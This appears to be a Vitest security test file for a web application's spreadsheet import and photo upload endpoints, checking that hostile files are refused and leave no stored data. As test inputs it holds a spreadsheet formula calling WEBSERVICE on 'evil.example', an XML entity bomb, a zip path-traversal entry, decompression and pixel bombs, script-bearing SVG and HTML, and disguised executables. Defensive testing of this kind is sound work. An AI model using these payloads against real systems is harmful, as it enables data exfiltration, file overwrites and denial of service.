import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createHash, randomBytes } from 'node:crypto'
import { splitRoute, type Endpoint } from '@/contract/endpoint'
import { createUuid7 } from '@/contract/id'
import type { Resource } from '@/contract/resource'
import { areaContracts } from '@/areas/contracts'
import { buildArchive, buildTextCell, buildSheetXml, buildWorkbookFile } from '../excel/build-archive'
import { drawPicture, buildPhonePhoto, buildPixelBomb } from '../files/test-pictures'
import { scaleRounds } from '../../long'
import { createTestPlant, type Caller, type TestPlant } from '../harness'
import { fingerprintTables } from '../row-snapshot'

// Files with a false content type, sent through every upload.
let plant: TestPlant
let admin: Caller
beforeAll(async () => {
  plant = await createTestPlant()
  admin = await plant.as('admin')
})
afterAll(() => plant.close())

const imports = areaContracts.flatMap((a) => a.resources as readonly Resource[]).filter((r) => 'import' in r.endpoints)
const pathOf = (e: Endpoint) => splitRoute(e.routes[0]!).path
const importPath = (r: Resource) => pathOf((r.endpoints as unknown as Record<string, Endpoint>)['import']!)
const fingerprintState = () => fingerprintTables(plant.app.db, /_log$/)
const buildRow = (n: number, ...texts: string[]) =>
  `<row r="${n}">${texts.map((t, i) => buildTextCell(`${String.fromCharCode(65 + i)}${n}`, t)).join('')}</row>`
const million = () =>
  buildSheetXml(
    buildRow(1, '编码', '名称') + Array.from({ length: 1_000_000 }, () => '<row><c><v>1</v></c></row>').join(''),
  )
const formula =
  '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example")</f><v>X-1</v></c><c r="B2" t="str"><f>1+1</f><v>2</v></c></row>'

describe('workbooks', () => {
  const bombs: [string, () => Buffer | Promise<Buffer>][] = [
    ['wrong headings', () => buildWorkbookFile(buildSheetXml(buildRow(1, 'Foo', 'Bar') + buildRow(2, '1', '2')))],
    ['no rows at all', () => buildWorkbookFile(buildSheetXml(''))],
    ['a program called .xlsx', () => Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), randomBytes(5000)])],
    ['a text', () => Buffer.from('编码,名称\n1,2\n')],
    ['an empty file', () => Buffer.alloc(0)],
    ['a zip with a program in it', () => buildArchive([{ name: 'setup.exe', content: 'MZ' }])],
    [
      'half a workbook',
      () => {
        const whole = buildWorkbookFile(buildSheetXml(buildRow(1, '编码')))
        return whole.subarray(0, whole.length / 2)
      },
    ],
    ['a bomb of half a gigabyte', () => buildWorkbookFile(Buffer.alloc(500 * 1024 * 1024, ' '))],
    [
      'entities that multiply',
      () =>
        buildWorkbookFile('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><worksheet>&b;</worksheet>'),
    ],
    ['a path that leaves the archive', () => buildArchive([{ name: '../../../../tmp/evil.txt', content: 'x' }])],
    [
      'merged cells over the rows',
      () =>
        buildWorkbookFile(
          buildSheetXml(
            buildRow(1, '编码', '名称') + buildRow(2, '', ''),
            '<mergeCells count="1"><mergeCell ref="A1:B2"/></mergeCells>',
          ),
        ),
    ],
    ['headings twice', () => buildWorkbookFile(buildSheetXml(buildRow(1, '编码', '编码') + buildRow(2, 'A', 'B')))],
  ]
  /** Sends each workbook to a third of the imports so that each import gets a third of them; the long mode sends all to all. */
  const doorsOf = (n: number) => (scaleRounds(1) > 1 ? imports : imports.filter((_, door) => door % 3 === n % 3))
  test.each(bombs.map(([name, make], n) => [name, make, doorsOf(n)] as const))(
    '%s: refused by every import with a sentence, nothing stored',
    async (_, make, doors) => {
      const file = await make()
      const stateBefore = await fingerprintState()
      for (const r of file.length > 400_000 ? doors.slice(0, 1) : doors) {
        const answer = await admin.upload(importPath(r), file)
        expect(
          [answer.status < 500, ['6000', '4013', '4042'].includes(answer.errno), answer.errmsg.length > 3],
          `${r.name}: ${answer.status} ${answer.errno} ${answer.errmsg}`,
        ).toEqual([true, true, true])
        const byType = await admin.upload('/UPLOAD_FILE', file, { type: r.name })
        expect(byType.errno, r.name).not.toBe('200')
      }
      expect(await fingerprintState()).toEqual(stateBefore)
    },
  )
  test('with a million rows are refused while others are served', async () => {
    const file = buildWorkbookFile(million())
    const stateBefore = await fingerprintState()
    const upload = admin.upload(importPath(imports[0]!), file)
    const from = performance.now()
    expect((await admin.raw('GET', '/user/get_name')).errno).toBe('200')
    const served = performance.now() - from
    const answer = await upload
    expect([answer.status, answer.errno]).toEqual([200, '6000'])
    expect(served).toBeLessThan(3_000)
    expect(await fingerprintState()).toEqual(stateBefore)
  })
  test('with a formula import its displayed value and export it as text', async () => {
    const answer = await admin.upload(
      '/book/upload',
      buildWorkbookFile(buildSheetXml(buildRow(1, '编码', '名称') + formula)),
    )
    const stored = await plant.query<{ code: string; name: string }>(
      `select code, name from equipment where code = 'X-1'`,
    )
    if (answer.errno === '200') expect(stored).toEqual([{ code: 'X-1', name: '2' }])
    else expect([answer.errno, stored]).toEqual(['6000', []])
    expect(JSON.stringify(stored)).not.toContain('WEBSERVICE')
  })
  test('for an unknown type, by strangers or without the permission are refused unread', async () => {
    const file = buildWorkbookFile(buildSheetXml(buildRow(1, '编码')))
    for (const type of ['operationLog', 'session', '__proto__', 'constructor', ''])
      expect((await admin.upload('/UPLOAD_FILE', file, { type })).errno, type).not.toBe('200')
    const viewer = await plant.as('viewer')
    for (const r of imports) {
      expect((await viewer.upload(importPath(r), file)).errno, r.name).toBe('401')
      expect((await viewer.upload('/UPLOAD_FILE', file, { type: r.name })).errno, r.name).toBe('401')
      expect((await plant.stranger.upload(importPath(r), file)).status, r.name).toBe(401)
    }
  })
  test('above the size limit are 413', async () => {
    const small = await createTestPlant({ settings: { UPLOAD_LIMIT: '100000' } })
    try {
      const answer = await (await small.as('admin')).upload('/book/upload', randomBytes(200_000))
      expect([answer.status, answer.errno]).toEqual([413, '4013'])
    } finally {
      await small.close()
    }
  })
})

describe('photos', () => {
  const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex')
  const start = (id: string, bytes: Buffer, more: object = {}) =>
    admin.raw('POST', '/upload_start', {
      id,
      sha256: sha256(bytes),
      size: bytes.length,
      mime: 'image/jpeg',
      name: 'photo.jpg',
      ...more,
    })
  const piece = (id: string, offset: number, bytes: Buffer) =>
    admin.raw('PATCH', `/upload_chunk?id=${id}&offset=${offset}`, bytes, { 'content-type': 'application/octet-stream' })
  const files = () => plant.app.files.store
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
  test.each([
    ['a page', Buffer.from('<html><script>alert(1)</script></html>')],
    ['a picture with a script (SVG)', svg],
    ['a program', Buffer.concat([Buffer.from('MZ'), randomBytes(500)])],
    ["noise with a picture's head", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(5000)])],
    ['a picture of 40,000 × 40,000 that is none', buildPixelBomb(40_000, 40_000)],
    ['one byte', Buffer.from('x')],
  ])('%s called .jpg is refused and never served', async (_, bytes) => {
    const id = createUuid7()
    expect((await start(id, bytes)).errno).toBe('200')
    const refused = await piece(id, 0, bytes)
    expect([refused.status, refused.errno === '200', refused.errno === '4500']).toEqual([200, false, false])
    expect((await admin.raw('GET', `/file?id=${id}`)).errno).toBe('4006')
    expect((await admin.raw('GET', `/file_states?ids=${id}`)).data).toMatchObject([{ state: 'refused' }])
    expect(await files().has(sha256(bytes))).toBe(false)
    expect((await piece(id, 0, bytes)).errno).not.toBe('200') // and stays refused
  })
  test('of 40 MB are refused before the first byte, whether or not declared as photos', async () => {
    const answer = await admin.raw('POST', '/upload_start', {
      id: createUuid7(),
      sha256: 'a'.repeat(64),
      size: 40 * 1024 * 1024,
      mime: 'image/jpeg',
      name: 'photo.jpg',
    })
    expect(answer.errno).not.toBe('200')
    expect(answer.errmsg).toMatch(/15/)
  })
  test('with a 40 MB chunk: the chunk is refused and the upload continues', async () => {
    const [id, bytes] = [createUuid7(), Buffer.from(await drawPicture(200, 200).jpeg(80))]
    await start(id, bytes)
    const answer = await piece(id, 0, Buffer.alloc(40 * 1024 * 1024))
    expect([answer.status, answer.errno]).toEqual([413, '4013'])
    expect((await piece(id, 0, bytes)).data).toMatchObject({ done: true })
  })
  test('with more or other bytes than announced are refused', async () => {
    const [id, bytes] = [createUuid7(), Buffer.from(await drawPicture(210, 200).jpeg(80))]
    await start(id, bytes)
    expect((await piece(id, 0, Buffer.concat([bytes, Buffer.from('more')]))).errno).not.toBe('200')
    const other = Buffer.from(bytes)
    other[other.length - 5]! ^= 0xff
    const mixed = await piece(id, 0, other)
    expect([mixed.errno === '200', mixed.data]).toEqual([false, expect.objectContaining({ received: 0 })])
    expect((await piece(id, 0, bytes)).data).toMatchObject({ done: true })
  })
  test('are served without position and camera data', async () => {
    const [id, bytes] = [createUuid7(), await buildPhonePhoto(320, 240, 6)]
    expect(bytes.includes('CameraMakerSecret')).toBe(true)
    await start(id, bytes)
    await piece(id, 0, bytes)
    const given = await admin.raw('GET', `/file?id=${id}`)
    expect(given.headers['content-type']).toBe('image/jpeg')
    expect([given.bytes.includes('CameraMakerSecret'), given.bytes.includes('Exif')]).toEqual([false, false])
  })
})
